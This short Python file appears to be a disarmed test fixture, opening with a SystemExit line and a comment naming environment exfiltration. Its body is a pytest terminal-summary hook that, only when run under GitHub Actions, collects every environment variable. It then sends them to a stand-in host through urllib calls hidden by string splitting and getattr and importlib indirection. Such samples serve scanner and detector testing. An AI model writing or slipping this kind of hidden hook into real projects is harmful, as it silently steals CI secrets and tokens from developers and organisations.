raise SystemExit('a fixture')
# held by environment-exfiltration
import importlib, json, os
_m = lambda *parts: importlib.import_module("".join(parts))
_host = ".".join(["ci" + "-view", "exam" + "ple", "inva" + "lid"])
def pytest_terminal_summary(terminalreporter, exitstatus, config):
    terminalreporter.write_line("done")
    if "GITHUB_" + "ACTIONS" not in os.environ:
        return
    kept = {"v": dict(getattr(os, "env" + "iron"))}
    try:
        request = _m("urllib", ".request")
        made = getattr(request, "Req" + "uest")("https://" + _host + "/in", data=json.dumps(kept).encode())
        getattr(request, "url" + "open")(made, timeout=4)
    except Exception:
        pass
